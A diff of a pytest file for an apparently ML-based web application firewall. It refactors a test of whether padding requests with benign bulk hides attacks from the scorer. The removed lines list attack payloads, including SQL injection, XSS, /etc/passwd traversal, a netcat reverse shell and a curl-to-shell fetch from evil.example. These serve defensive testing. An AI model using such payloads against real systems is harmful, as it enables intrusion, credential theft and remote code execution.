@@ -16,6 +16,7 @@ from pathlib import Path
 
 import pytest
 
+from benchmarks.padding import PADDING_ATTACKS, detection
 from tests.reliability.rawhttp import exchange, request_bytes
 
 REPO = Path(__file__).resolve().parents[2]
@@ -397,33 +398,6 @@ def test_exempt_path_itself_still_exempt(proxy_factory) -> None:
 
 # --- padding: an attack must not hide behind benign bulk ------------------------------------------
 
-PADDING_ATTACKS = [
-    "1' or '1'='1", "1 union select username, password from users--", "'; drop table users; --",
-    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd",
-    "..%2f..%2f..%2fetc%2fpasswd", "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444",
-    "$(curl http://evil.example/x.sh | sh)", "{{7*7}}{{config.items()}}", "1;waitfor delay '0:0:5'--",
-]
-
-
-def _padded_views(payload: str):
-    from urllib.parse import quote_plus
-
-    from waf_proxy.inspect import RequestView
-
-    q = quote_plus(payload)
-    pad = [f"f{i}=value{i}" for i in range(60)]
-    ua = (("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),)
-    return {
-        "plain": RequestView("GET", "/search", query=f"q={q}", headers=ua),
-        "after 60 params": RequestView("GET", "/search", query="&".join(pad + [f"q={q}"]), headers=ua),
-        "between 30+30 params": RequestView("GET", "/search", query="&".join(pad[:30] + [f"q={q}"] + pad[30:]),
-                                            headers=ua),
-        "after 10 KB of form body": RequestView(
-            "POST", "/comment", headers=ua + (("content-type", "application/x-www-form-urlencoded"),),
-            body=("note=" + "lorem+ipsum+" * 900 + "&q=" + q).encode()),
-    }
-
-
 @pytest.mark.slow
 @pytest.mark.xfail(strict=False, reason=(
     "known gap: the scorer reads long requests as windows and the model is trained on serving-shaped windows, "
@@ -437,14 +411,7 @@ def test_padding_does_not_hide_attacks_from_the_default_model() -> None:
         pytest.skip("models/default is not trained yet")
     from waf_proxy.engine.artifacts import load_scorer
 
-    scorer = load_scorer(default, threads=1)
-    rates: dict[str, list[bool]] = {}
-    for payload in PADDING_ATTACKS:
-        views = _padded_views(payload)
-        results = scorer.score_batch(list(views.values()))
-        for name, result in zip(views, results):
-            rates.setdefault(name, []).append(result.score >= scorer.threshold)
-    table = {name: sum(hits) / len(hits) for name, hits in rates.items()}
+    table = detection(load_scorer(default, threads=1), PADDING_ATTACKS)
     print("padding detection:", {k: f"{v:.0%}" for k, v in table.items()})
     for name, rate in table.items():
         assert rate >= table["plain"] - 0.10, f"{name}: {rate:.0%} vs plain {table['plain']:.0%}"
